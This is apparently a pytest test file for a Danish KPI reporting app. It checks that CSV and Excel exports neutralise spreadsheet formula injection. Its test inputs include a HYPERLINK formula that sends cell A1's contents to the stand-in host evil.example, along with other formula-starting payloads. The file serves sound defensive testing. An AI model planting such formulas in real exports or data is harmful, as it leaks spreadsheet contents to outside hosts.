"""Exports a spreadsheet cannot turn into formulas (issue 11, section 3): one test per CSV and
workbook the app or the command line writes."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from test_import_support import DUBU, do_import, text_rows, write_csv

from kpis.access import audit
from kpis.access.audit import AuditAction
from kpis.cli import main
from kpis.data.inventory import quarantine_csv
from kpis.present import worklist as wl
from kpis.present.meeting_papers import MeetingPapers, build_xlsx
from kpis.present.period_choice import Comparison
from kpis.rules.validate import validate_text
from kpis.safe_cells import neutralise, neutralised
from tests import test_tiles
from tests.test_meeting_papers import AS_OF as PAPERS_AS_OF
from tests.test_meeting_papers import Q3, results
from tests.test_worklist import AS_OF as WORKLIST_AS_OF
from tests.test_worklist import ROWS, _open_steps

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
# One per sign a spreadsheet starts a formula with (OWASP): = + - @ tab and carriage return.
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise("Team Nord") == "Team Nord" and neutralise("") == ""


def test_only_text_columns_are_touched_and_negative_numbers_stay_numbers() -> None:
    df = pl.DataFrame({"navn": ["=1+1", "Anne", None], "tal": [-3, 4, None],
                       "andel": [-0.5, 0.25, None]})
    out = neutralised(df)
    assert out["navn"].to_list() == ["'=1+1", "Anne", None]
    assert out["tal"].to_list() == [-3, 4, None] and out["andel"].to_list() == [-0.5, 0.25, None]
    assert out.schema == df.schema


def test_audit_csv_keeps_a_failed_logins_username_as_text(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(audit.AUDIT_ENV, str(tmp_path / "audit.sqlite"))
    audit.record(HYPERLINK, "", "", AuditAction.LOGIN_FAILED, page="login",
                 detail="-forkert adgangskode")
    rows = _csv_cells(audit.to_csv_bytes(audit.read(None)))
    header, entry = rows[0], rows[1]
    assert entry[header.index("actor")] == "'" + HYPERLINK
    assert entry[header.index("detail")] == "'-forkert adgangskode"
    assert entry[header.index("id")] == "1"


def test_worklist_csv_keeps_caseworker_and_team_names_as_text() -> None:
    rows = [(*r[:2], HOSTILE[i % 2 + 1], HOSTILE[i % len(HOSTILE)], *r[4:])
            for i, r in enumerate(ROWS)]
    shown = wl.table(wl.prepare(_open_steps(rows), WORKLIST_AS_OF))
    cells = _csv_cells(wl.to_csv_bytes(shown))
    header, body = cells[0], cells[1:]
    names = {r[header.index("Sagsbehandler")] for r in body}
    teams = {r[header.index("Team")] for r in body}
    assert names == {"'" + h for h in HOSTILE}
    assert teams == {"'+1+1", "'-2+3"}
    # the days past a deadline stay plain numbers
    assert {r[header.index("Dage over fristen")] for r in body} <= {"", "1", "10"}


def test_worklist_workbook_keeps_names_as_text_cells() -> None:
    rows = [(*r[:3], HYPERLINK, *r[4:]) for r in ROWS]
    shown = wl.table(wl.prepare(_open_steps(rows), WORKLIST_AS_OF))
    sheet = openpyxl.load_workbook(io.BytesIO(wl.to_excel_bytes(shown)))["Fristoversigt"]
    column = shown.columns.index("Sagsbehandler") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, shown.height + 2)]
    assert {(c.value, c.data_type) for c in cells} == {(HYPERLINK, "s")}


def test_meeting_papers_workbook_writes_kpi_texts_as_text_cells() -> None:
    definitions = (test_tiles.DEFINITIONS
                   .replace("name: Undersøgelser til tiden", "name: '=1+2'")
                   .replace("description: Andel af undersøgelserne, der blev afsluttet til tiden.",
                            "description: '+SUM(A1:A9)'")
                   .replace("owner: Analyse\n  - id: late_share", "owner: '@Analyse'\n"
                            "  - id: late_share"))
    kpis, problems = validate_text(definitions, "test.yaml")
    assert not problems
    papers = MeetingPapers(kpis, results(), Q3, Comparison.PREVIOUS, PAPERS_AS_OF)
    book = openpyxl.load_workbook(io.BytesIO(build_xlsx(papers)))
    found = {c.value: c.data_type for ws in book.worksheets for row in ws.iter_rows()
             for c in row if isinstance(c.value, str) and c.value[:1] in "=+@"}
    assert {"=1+2", "+SUM(A1:A9)", "@Analyse"} <= set(found)
    assert set(found.values()) == {"s"}  # text cells, none a formula


def test_drilldown_csv_keeps_names_as_text_and_dates_danish() -> None:
    from datetime import datetime

    from kpis.present import drilldown as dd

    rows = pl.DataFrame({"Sagsbehandler": [HYPERLINK, "Anne"], "Start": [date(2025, 3, 7), None],
                         "Frist": [datetime(2025, 7, 7, 14, 5), None], "Dage for sent": [-2, 3]})
    cells = _csv_cells(dd.rows_csv(rows))
    assert cells == [["Sagsbehandler", "Start", "Frist", "Dage for sent"],
                     ["'" + HYPERLINK, "07.03.2025", "07.07.2025 14.05", "-2"],
                     ["Anne", "", "", "3"]]


def test_quarantine_csv_keeps_an_offending_value_as_text(tmp_path: Path) -> None:
    tables = text_rows()
    tables["investigations"][0][DUBU.header("investigations", "completed_on")] = "=1+1"
    db = tmp_path / "db.duckdb"
    do_import(write_csv(tmp_path / "export", tables), db)
    cells = _csv_cells(quarantine_csv(db))
    header, body = cells[0], cells[1:]
    assert [r[header.index("Værdi")] for r in body] == ["'=1+1"]
    assert [r[header.index("Række")] for r in body] == ["2"]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """The engine fixture with its team "Team A" renamed to a formula."""
    from kpis.data.importer import run_import

    folder = tmp_path_factory.mktemp("hostile")
    export = Path(shutil.copytree(Path(__file__).parent / "fixtures" / "engine", folder / "x"))
    cases = export / "cases.csv"
    cases.write_text(cases.read_text(encoding="utf-8").replace(",Team A,", ",=Team A,"),
                     encoding="utf-8")
    db = folder / "s.duckdb"
    run_import(export, db, profile="canonical", as_of=date(2025, 6, 30),
               pseudonym_key=b"test-key-kpi-fixtures")
    return db


def _compute(db: Path, fmt: str, out: Path) -> Path:
    assert main(["compute", "--db", str(db), "--period", "2025-Q1", "--kpi", "bfu_4_mdr",
                 "--by", "team", "--format", fmt, "--out", str(out)]) == 0
    return out


def test_command_line_csv_keeps_team_names_as_text(hostile_db: Path, tmp_path: Path,
                                                   capsys) -> None:
    text = _compute(hostile_db, "csv", tmp_path / "r.csv").read_text(encoding="utf-8")
    assert "'=Team A" in text
    assert not any(line.startswith("=") or ",=" in line for line in text.splitlines())


def test_command_line_workbook_keeps_team_names_as_text_cells(hostile_db: Path, tmp_path: Path,
                                                              capsys) -> None:
    sheet = openpyxl.load_workbook(_compute(hostile_db, "xlsx", tmp_path / "r.xlsx")).active
    found = {(c.value, c.data_type) for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and "Team A" in c.value}
    assert found == {("=Team A", "s")}


def test_tables_offer_no_export_of_their_own() -> None:
    """Streamlit's table toolbar writes CSV itself, without neutralising formulas (nor an audit
    entry): the app turns it off, so the pages' download buttons are the only exports."""
    import tomllib

    from streamlit import config

    assert "client.disableDataExport" in config.get_config_options()  # the option's real name
    settings = tomllib.loads((Path(__file__).parents[1] / ".streamlit" / "config.toml")
                             .read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True
